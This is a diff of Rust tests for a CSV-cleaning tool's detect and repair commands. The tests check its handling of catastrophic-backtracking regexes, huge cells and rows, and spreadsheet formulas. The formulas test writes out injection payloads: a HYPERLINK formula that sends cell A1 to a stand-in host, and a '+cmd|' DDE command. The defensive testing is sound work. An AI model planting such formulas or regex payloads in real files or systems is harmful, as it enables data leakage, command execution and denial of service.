@@ -81,17 +81,17 @@ fn expressions_that_blow_up_are_told_or_take_linear_time() {
     let session = Session::with(&[("t.csv", &format!("x,y\n{long},1\n{long}b,2\nab,3\n"))]);
     // What backtracks takes 2 to the length of the text for these.
     for pattern in ["(a|a)*b", "(a*)*b", "(a+)+b", "(.*a){9}b"] {
-        session.write("t.rules", format!("column x /{pattern}/\n").as_bytes());
+        session.write("t.rules", format!("column x text /{pattern}/\n").as_bytes());
         let said = session.run("detect t.csv -r t.rules --format json");
         assert!(said.starts_with("exit 1"), "{pattern}: {}", &said[..said.len().min(500)]);
     }
     for pattern in ["((a{1000}){1000}){1000}", "\\pL{100000}", "(((a{100}){100}){100}){100}"] {
-        session.write("t.rules", format!("column x /{pattern}/\n").as_bytes());
+        session.write("t.rules", format!("column x text /{pattern}/\n").as_bytes());
         let said = session.run("detect t.csv -r t.rules");
         assert!(said.starts_with("exit 2") && said.contains("error[bad-pattern]"), "{pattern}: {said}");
-        assert!(said.contains("t.rules:1:10") && said.contains("help: repeat less"), "{pattern}: {said}");
+        assert!(said.contains("t.rules:1:15") && said.contains("help: repeat less"), "{pattern}: {said}");
     }
-    session.write("t.rules", format!("column x /{}a{}/\n", "(".repeat(100_000), ")".repeat(100_000)).as_bytes());
+    session.write("t.rules", format!("column x text /{}a{}/\n", "(".repeat(100_000), ")".repeat(100_000)).as_bytes());
     assert!(session.run("check t.rules").starts_with("exit 2"));
 }
 
@@ -120,13 +120,14 @@ error[too-large]: `bomb.csv.zst` is small and stands for more than 1024 MiB, as 
 #[test]
 fn long_rows_long_cells_and_wide_headers_are_read_or_told_in_time_that_grows_with_them() {
     let fields = ",1".repeat(1_000_000);
-    let cell = "x".repeat(30 << 20);
+    let cell = "x".repeat(3 << 20);
     let session = Session::with(&[
         ("fields.csv", &format!("{CITIES}00184,Rome{fields}\n")),
         ("cell.csv", &format!("{CITIES}00184,\"{cell}\"\n")),
         ("wide.csv", &format!("x{fields}\n1{fields}\n")),
         ("same.csv", &format!("x{}\n1{}\n", ",x".repeat(3000), ",1".repeat(3000))),
         ("cities.rules", CITY_RULE),
+        ("same.rules", "unique x\n"),
     ]);
     session.done("repair fields.csv -r cities.rules");
     let clean = session.read("fields.csv").replace("Rom\n", "Rome\n");
@@ -145,7 +146,7 @@ error[too-many-columns]: `wide.csv`, line 1: the header has 1000001 fields, and 
 
 "#]],
     );
-    let said = session.run("detect same.csv -r cities.rules");
+    let said = session.run("detect same.csv -r same.rules");
     assert!(said.contains("2980 more of 3001 columns are renamed in this way"), "{}", &said[..said.len().min(3000)]);
 }
 
@@ -153,11 +154,15 @@ error[too-many-columns]: `wide.csv`, line 1: the header has 1000001 fields, and 
 fn formulas_in_a_repairs_file_are_text_where_asked_and_come_back_exactly() {
     let formula = "=HYPERLINK(\"http://x.example/?\"&A1)";
     let quoted = formula.replace('"', "\"\"");
-    let table = CITIES.replace("00184,Rom\n", &format!("00184,\"{quoted}\"\n")) + "10115,'=x\n00184,+cmd|' /C calc'!A0\n";
-    let session = Session::with(&[("t.csv", &table), ("t.rules", &format!("at: {}", &CITY_RULE[8..]))]);
+    let table =
+        CITIES.replace("00184,Rom\n", &format!("00184,\"{quoted}\"\n")) + "10115,'=x\n00184,+cmd|' /C calc'!A0\n";
+    let session = Session::with(&[("t.csv", &table), ("t.rules", CITY_RULE)]);
     session.done("repair t.csv -r t.rules --review-at 0");
     let plain = session.read("t.repairs.csv");
-    assert!(plain.contains(&format!(",\"{quoted}\",")) && plain.contains(",'=x,") && plain.contains(",+cmd|"), "{plain}");
+    assert!(
+        plain.contains(&format!(",\"{quoted}\",")) && plain.contains(",'=x,") && plain.contains(",+cmd|"),
+        "{plain}"
+    );
     let clean = session.read("t.clean.csv");
     session.done("repair t.csv -r t.rules --review-at 0 --escape-formulas --force");
     let escaped = session.read("t.repairs.csv");
@@ -182,9 +187,8 @@ const NUMBERS: [&str; 6] = ["0", "18446744073709551615", "4294967296", "92233720
 fn whatever_numbers_the_metadata_of_a_run_claim_the_program_ends_with_a_message() {
     let session = Session::with(&[
         ("t.csv", "zip,city,note\n00184,Rome,\n00184,Rome,\"a\"\n00184,Rom,b\n00184,Rome,c\n00184\n00184,Rome,d\n"),
-        ("t.rules", "fd zip -> city\nunique note policy quarantine\n"),
+        ("t.rules", "fd zip -> city\nrequire note != \"d\" quarantine\n"),
     ]);
-    session.write("t.rules", b"fd zip -> city\nrequire note != \"d\" quarantine\n");
     session.done("repair t.csv -r t.rules --review-at 0");
     let whole = session.read("t.repairs.meta.json");
     let places: Vec<_> = numbers(&whole);
